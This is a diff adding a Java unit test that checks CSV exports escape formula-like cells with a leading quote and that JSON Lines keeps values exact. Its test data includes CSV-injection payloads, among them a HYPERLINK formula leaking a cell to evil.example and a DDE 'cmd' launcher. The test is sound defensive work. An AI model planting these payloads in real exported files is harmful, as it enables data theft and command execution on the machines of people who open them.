@@ -222,6 +222,57 @@ class ExportsTests {
 	}
 
 	@Test
+	@SuppressWarnings("unchecked")
+	void csvCellsThatASpreadsheetWouldEvaluateAreWrittenAsTextAndJsonKeepsThemExact() throws Exception {
+		// given: an id, an error, answers and a prompt that a spreadsheet would take for formulas
+		List<String> formulas = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0",
+				"-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", " =1+1");
+		RunRecord risky = new RunRecord(9, "risky", null, "input/items.csv", this.dir.resolve("risky").toString(), null,
+				Instant.parse("2026-11-25T10:00:00Z"));
+		this.store.registerRun(risky);
+		List<Conversation> conversations = new ArrayList<>();
+		for (int i = 0; i < formulas.size(); i++) {
+			String formula = formulas.get(i);
+			conversations.add(new Conversation(i + 1, formula + i, "ai/tiny", Conversation.FAILED, formula,
+					List.of(new Conversation.Turn("user", "answer", formula), new Conversation.Turn("assistant", "answer", formula)),
+					List.of(new Conversation.Call(0, "answer", "stop", 1, 1, 1, 1, null, null, null))));
+		}
+		this.store.saveAll(9, conversations);
+
+		// when
+		this.exports.write(risky, List.of("csv", "jsonl"));
+
+		// then: every such cell is quoted and starts with a single quote, read back as the value behind that quote
+		String raw = Files.readString(this.dir.resolve("risky/results.csv"));
+		for (String formula : formulas) {
+			assertThat(raw).contains("\"'" + formula.replace("\"", "\"\"")).doesNotContain("," + formula);
+		}
+		ItemStreamReader<InputItem> csv = InputReaders
+			.reader(new InputSource("csv", this.dir.resolve("risky/results.csv"), "id", "csv"));
+		csv.open(new ExecutionContext());
+		List<InputItem> rows = new ArrayList<>();
+		for (InputItem row = csv.read(); row != null; row = csv.read()) {
+			rows.add(row);
+		}
+		csv.close();
+		assertThat(rows).hasSize(formulas.size());
+		for (int i = 0; i < formulas.size(); i++) {
+			// (the line-based reader gives a quoted CR back as a line feed)
+			String formula = formulas.get(i).replace('\r', '\n');
+			assertThat(rows.get(i).fields()).containsEntry("id", "'" + formula + i)
+				.containsEntry("error", "'" + formula)
+				.containsEntry("answer", "'" + formula);
+		}
+		// and JSON Lines keeps every value exact
+		List<String> lines = Files.readAllLines(this.dir.resolve("risky/results.jsonl"));
+		for (int i = 0; i < formulas.size(); i++) {
+			Map<String, Object> item = JSON.readValue(lines.get(i), Map.class);
+			assertThat(item).containsEntry("id", formulas.get(i) + i).containsEntry("error", formulas.get(i));
+			assertThat((Map<String, Object>) item.get("steps")).containsEntry("answer", formulas.get(i));
+		}
+	}
+
+	@Test
 	void csvQuotingFollowsRfc4180() {
 		assertThat(CsvExporter.quote("plain")).isEqualTo("plain");
 		assertThat(CsvExporter.quote("a,b")).isEqualTo("\"a,b\"");
